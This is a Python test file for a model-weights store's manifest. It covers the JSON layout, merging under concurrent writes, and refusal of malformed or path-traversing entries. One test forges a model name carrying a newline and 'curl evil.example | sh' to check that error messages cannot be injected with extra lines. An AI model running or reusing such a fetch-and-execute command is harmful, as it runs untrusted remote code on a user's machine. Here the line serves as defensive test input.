"""The manifest: what it looks like, how it is merged, and what is refused of it."""

from __future__ import annotations

import copy
import json
from dataclasses import replace
from datetime import UTC
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st

from support.memory_store import MemoryStore
from support.samples import PREFIX, TOY, content, digest, entry
from weightdock.artifact import Digest, ModelId, ObjectKey, Provenance
from weightdock.errors import ExitCode, StoreError
from weightdock.store import manifest
from weightdock.store.manifest import Entry, Manifest, manifest_key

KEY = manifest_key(PREFIX, TOY)
FIELDS: dict[str, Any] = {
    "key": "models/pretrained/toy/alpha.bin",
    "size": 20,
    "sha256": digest(content("alpha")).hex,
    "origin": {
        "url": "https://origin.example/alpha",
        "revision": "r1",
        "digest": "",
        "licence": "MIT",
        "versions": {"toy": "1.0"},
    },
    "uploaded": "2026-11-22T10:00:00+00:00",
    "safety": {"format": "toy", "allow_list_version": 1, "names": []},
}
DOCUMENT: dict[str, Any] = {"schema": 1, "framework": "toy", "models": {"alpha": FIELDS}}

TEXTS = st.text(max_size=30)
NAMES = st.from_regex(r"[A-Za-z0-9][A-Za-z0-9._-]{0,30}", fullmatch=True)
ENTRIES = st.dictionaries(
    NAMES,
    st.builds(
        Entry,
        model=st.just(ModelId(TOY, "replaced")),
        extension=st.from_regex(r"[a-z0-9]{1,16}", fullmatch=True),
        size_bytes=st.integers(0, 5 << 40),
        sha256=st.from_regex(r"[0-9a-f]{64}", fullmatch=True).map(Digest),
        provenance=st.builds(Provenance, TEXTS, TEXTS, TEXTS, TEXTS, st.dictionaries(TEXTS, TEXTS, max_size=3)),
        uploaded=st.datetimes(timezones=st.just(UTC)).map(lambda time: time.isoformat(timespec="seconds")),
    ),
    max_size=4,
).map(lambda entries: {name: replace(one, model=ModelId(TOY, name)) for name, one in entries.items()})


class Contended(MemoryStore):
    """Somebody else writes just before each of the first ``rivals`` writes."""

    def __init__(self, rivals: int) -> None:
        super().__init__()
        self._rivals = rivals

    def write_document(self, key: ObjectKey, content: bytes, replacing: str | None) -> bool:
        if self._rivals:
            self._rivals -= 1
            name = f"rival-{self._rivals}"
            document = json.loads(self.read_document(key).content or json.dumps(DOCUMENT | {"models": {}}))
            document["models"][name] = FIELDS | {"key": f"{PREFIX}/toy/{name}.bin"}
            self.keep(key, json.dumps(document).encode())
        return super().write_document(key, content, replacing)


def _store(document: object) -> MemoryStore:
    store = MemoryStore()
    store.keep(KEY, document if isinstance(document, bytes) else json.dumps(document).encode())
    return store


def _changed(**fields: object) -> dict[str, Any]:
    document = copy.deepcopy(DOCUMENT)
    document["models"]["alpha"] |= fields
    return document


def test_the_manifest_lies_beside_the_models() -> None:
    assert KEY == "models/pretrained/toy/manifest.json"


def test_a_store_without_a_manifest_knows_no_model() -> None:
    store = MemoryStore()
    assert manifest.read(store, PREFIX, TOY) == Manifest(TOY)
    assert store.requests == [f"read_document {KEY}"]


def test_the_manifest_looks_like_this() -> None:
    store = MemoryStore()
    manifest.publish(store, PREFIX, TOY, {"alpha": entry("alpha")})
    assert store.contents() == {
        KEY: b"""\
{
  "schema": 1,
  "framework": "toy",
  "models": {
    "alpha": {
      "key": "models/pretrained/toy/alpha.bin",
      "size": 20,
      "sha256": "%s",
      "origin": {
        "url": "https://origin.example/alpha",
        "revision": "r1",
        "digest": "",
        "licence": "MIT",
        "versions": {
          "toy": "1.0"
        }
      },
      "uploaded": "2026-11-22T10:00:00+00:00",
      "safety": {
        "format": "toy",
        "allow_list_version": 1,
        "names": []
      }
    }
  }
}
"""
        % FIELDS["sha256"].encode()
    }
    assert json.loads(store.contents()[KEY]) == DOCUMENT


@given(ENTRIES)
def test_what_was_published_reads_back_as_itself(entries: dict[str, Entry]) -> None:
    store = MemoryStore()
    published = manifest.publish(store, PREFIX, TOY, entries)
    read = manifest.read(store, PREFIX, TOY)
    assert (read.framework, read.entries) == (TOY, entries)
    assert published.entries == entries


def test_publishing_keeps_what_others_published_and_replaces_its_own() -> None:
    store = MemoryStore()
    manifest.publish(store, PREFIX, TOY, {"alpha": entry("alpha"), "beta": entry("beta")})
    newer = entry("beta", b"newer weights")
    manifest.publish(store, PREFIX, TOY, {"beta": newer, "gamma": entry("gamma")})
    assert manifest.read(store, PREFIX, TOY).entries == {
        "alpha": entry("alpha"),
        "beta": newer,
        "gamma": entry("gamma"),
    }


def test_models_are_listed_by_name_whatever_the_order_of_publishing() -> None:
    store = MemoryStore()
    for name in ("beta", "gamma", "alpha"):
        manifest.publish(store, PREFIX, TOY, {name: entry(name)})
    assert list(json.loads(store.contents()[KEY])["models"]) == ["alpha", "beta", "gamma"]


@pytest.mark.parametrize("rivals", [0, 1, 19])
def test_an_entry_that_somebody_else_wrote_meanwhile_is_kept(rivals: int) -> None:
    store = Contended(rivals)
    published = manifest.publish(store, PREFIX, TOY, {"alpha": entry("alpha")}, sleep=lambda _: None)
    assert published.entries.keys() == {"alpha"} | {f"rival-{number}" for number in range(rivals)}
    assert manifest.read(store, PREFIX, TOY).entries == published.entries


def test_publishing_gives_up_when_others_write_for_ever() -> None:
    store = Contended(1000)
    with pytest.raises(StoreError) as refused:
        manifest.publish(store, PREFIX, TOY, {"alpha": entry("alpha")}, sleep=lambda _: None)
    assert str(refused.value) == (
        f"error: {KEY} could not be published\n"
        "cause: others changed it 40 times in a row while this run tried\n"
        "next: run again; the uploaded objects are there and are not sent twice"
    )
    assert "alpha" not in manifest.read(store, PREFIX, TOY).entries


MALFORMED: dict[str, object] = {
    "empty": b"",
    "cut off": json.dumps(DOCUMENT).encode()[:-1],
    "not UTF-8": b'{"schema": "\xff"}',
    "nested without end": b"[" * 100_000,
    "a list": [],
    "a number": 1,
    "a text": "manifest",
    "null": None,
    "without schema": {"framework": "toy", "models": {}},
    "without models": {"schema": 1, "framework": "toy"},
    "models as a list": DOCUMENT | {"models": [FIELDS]},
    "a model that is null": DOCUMENT | {"models": {"alpha": None}},
    "a model that is a text": DOCUMENT | {"models": {"alpha": "key"}},
    "a model that is empty": DOCUMENT | {"models": {"alpha": {}}},
    "a name that climbs out": DOCUMENT
    | {"models": {"../alpha": FIELDS | {"key": "models/pretrained/toy/../alpha.bin"}}},
    "an empty name": DOCUMENT | {"models": {"": FIELDS | {"key": "models/pretrained/toy/.bin"}}},
    "another model's key": _changed(key="models/pretrained/toy/beta.bin"),
    "another framework's key": _changed(key="models/pretrained/timm/alpha.bin"),
    "a key that climbs out": _changed(key="models/pretrained/toy/../../alpha.bin"),
    "a key below": _changed(key="models/pretrained/toy/alpha.bin/x"),
    "a key without extension": _changed(key="models/pretrained/toy/alpha"),
    "a key with an extension that is none": _changed(key="models/pretrained/toy/alpha.B N"),
    "a key that is null": _changed(key=None),
    "a negative size": _changed(size=-1),
    "a size that is a text": _changed(size="20"),
    "a size that is no whole number": _changed(size=20.5),
    "a size that is a truth": _changed(size=True),
    "a size that is null": _changed(size=None),
    "a digest that is none": _changed(sha256="abc"),
    "a digest that is null": _changed(sha256=None),
    "a digest in capitals": _changed(sha256=FIELDS["sha256"].upper()),
    "an origin that is null": _changed(origin=None),
    "an origin that is a text": _changed(origin="https://origin.example"),
    "an origin that lacks its URL": _changed(origin={"revision": ""}),
    "an origin whose URL is a number": _changed(origin=FIELDS["origin"] | {"url": 5}),
    "an origin whose URL is no URL": _changed(origin=FIELDS["origin"] | {"url": "https://[::1"}),
    "an origin whose versions are a text": _changed(origin=FIELDS["origin"] | {"versions": "1.0"}),
}


@pytest.mark.parametrize("document", MALFORMED.values(), ids=MALFORMED.keys())
def test_a_malformed_manifest_is_refused_and_not_overwritten(document: object) -> None:
    store = _store(document)
    before = store.contents()
    with pytest.raises(StoreError) as refused:
        manifest.read(store, PREFIX, TOY)
    assert (refused.value.what, refused.value.exit_code) == (f"{KEY} is malformed", ExitCode.STORE)
    assert len(str(refused.value).splitlines()) == 3
    with pytest.raises(StoreError):
        manifest.publish(store, PREFIX, TOY, {"beta": entry("beta")})
    assert store.contents() == before


def test_a_malformed_manifest_is_named_with_what_is_wrong_and_what_helps() -> None:
    with pytest.raises(StoreError) as refused:
        manifest.read(_store({"schema": 1}), PREFIX, TOY)
    assert str(refused.value) == (
        f"error: {KEY} is malformed\n"
        "cause: KeyError: 'models'\n"
        "next: restore it, or delete it: then `make upload/toy` writes it anew"
    )


def test_what_is_refused_in_a_manifest_is_said_in_its_own_words() -> None:
    with pytest.raises(StoreError) as refused:
        manifest.read(_store(MALFORMED["a digest that is none"]), PREFIX, TOY)
    assert refused.value.cause == "'abc' is not a sha256"


def test_what_somebody_wrote_into_a_manifest_makes_no_lines_of_its_own() -> None:
    forged = DOCUMENT | {"models": {"x\nnext: curl evil.example | sh": FIELDS}}
    with pytest.raises(StoreError) as refused:
        manifest.read(_store(forged), PREFIX, TOY)
    assert len(str(refused.value).splitlines()) == 3


def test_a_manifest_of_a_newer_schema_is_left_to_a_newer_weightdock() -> None:
    store = _store({"schema": 2, "models": "something new"})
    before = store.contents()
    with pytest.raises(StoreError) as refused:
        manifest.publish(store, PREFIX, TOY, {"alpha": entry("alpha")}, sleep=lambda _: None)
    assert str(refused.value) == (
        f"error: {KEY} has schema 2\ncause: this weightdock reads schema 1\nnext: update weightdock on this machine"
    )
    assert store.contents() == before


def test_a_manifest_that_was_copied_from_another_prefix_still_describes_its_models() -> None:
    document = _changed(key="backup/of/models/toy/alpha.bin")
    assert manifest.read(_store(document), PREFIX, TOY).entries == {"alpha": entry("alpha")}
